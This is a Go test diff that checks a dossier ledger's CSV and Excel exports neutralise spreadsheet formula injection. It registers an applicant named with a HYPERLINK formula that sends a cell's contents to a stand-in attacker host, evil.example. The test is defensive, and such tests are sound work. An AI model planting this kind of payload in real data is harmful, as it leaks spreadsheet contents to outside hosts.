@@ -419,3 +419,79 @@ func TestLedgerPages(t *testing.T) {
 		t.Errorf("the summary on page 2 counts %q dossiers, want all 102", total)
 	}
 }
+
+// TestLedgerFormulasAreText: an applicant who names themselves like a
+// spreadsheet formula gets it back as text: the CSV cell is prefixed with a
+// single quote (OWASP's CSV injection advice), the workbook's cell is a
+// string, never a formula.
+func TestLedgerFormulasAreText(t *testing.T) {
+	l := newLedgerEnv(t)
+	env := l.env
+	const name = `=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")`
+	attacker, err := env.App.Accounts.Register(context.Background(), account.RegisterInput{Kind: account.RoleCitizen,
+		FullName: name, PersonalID: "019190000456", Email: "ke-gian@example.vn", Phone: "0987000456",
+		Password: apptest.Password, Password2: apptest.Password})
+	if err != nil {
+		t.Fatal(err)
+	}
+	d := env.SubmitDossier(t, attacker, apptest.ProcCommune, communeDucXuan)
+	clerk := env.StaffClient(t, account.RoleClerk, centreDucXuan)
+
+	res := clerk.Get(string(route.LedgerCSV("01/12/2026", "31/12/2026")))
+	records, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(res.Body, []byte("\xef\xbb\xbf")))).ReadAll()
+	if err != nil || res.Status != http.StatusOK {
+		t.Fatalf("CSV: %d %v", res.Status, err)
+	}
+	var got []string
+	for _, r := range records[1:] {
+		if r[1] == d.Code {
+			got = r
+		}
+	}
+	if got == nil {
+		t.Fatalf("CSV lacks %s: %q", d.Code, records)
+	}
+	if got[4] != "'"+name {
+		t.Errorf("CSV applicant cell %q, want it prefixed with a single quote", got[4])
+	}
+	for i, cell := range got {
+		if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
+			t.Errorf("CSV cell %d %q begins like a formula", i, cell)
+		}
+	}
+
+	res = clerk.Get(string(route.LedgerXLSX("01/12/2026", "31/12/2026")))
+	f, err := excelize.OpenReader(bytes.NewReader(res.Body))
+	if err != nil {
+		t.Fatalf("the workbook does not open: %v", err)
+	}
+	defer f.Close()
+	const sheet = "Sổ theo dõi"
+	rows, err := f.GetRows(sheet)
+	if err != nil {
+		t.Fatal(err)
+	}
+	cell := ""
+	for i, r := range rows {
+		if len(r) > 4 && r[1] == d.Code {
+			cell = "E" + strconv.Itoa(i+1)
+		}
+	}
+	if cell == "" {
+		t.Fatalf("workbook lacks %s: %q", d.Code, rows)
+	}
+	if v, _ := f.GetCellValue(sheet, cell); v != name {
+		t.Errorf("workbook applicant %q, want the name as typed %q", v, name)
+	}
+	if formula, _ := f.GetCellFormula(sheet, cell); formula != "" {
+		t.Errorf("workbook applicant cell is the formula %q", formula)
+	}
+	if typ, _ := f.GetCellType(sheet, cell); typ != excelize.CellTypeInlineString && typ != excelize.CellTypeSharedString {
+		t.Errorf("workbook applicant cell has type %v, want a string", typ)
+	}
+	for _, part := range []string{"xl/worksheets/sheet1.xml", "xl/worksheets/sheet2.xml"} {
+		if xml := sheetXML(t, res.Body, part); strings.Contains(xml, "<f>") || strings.Contains(xml, "<f ") {
+			t.Errorf("%s holds a formula", part)
+		}
+	}
+}
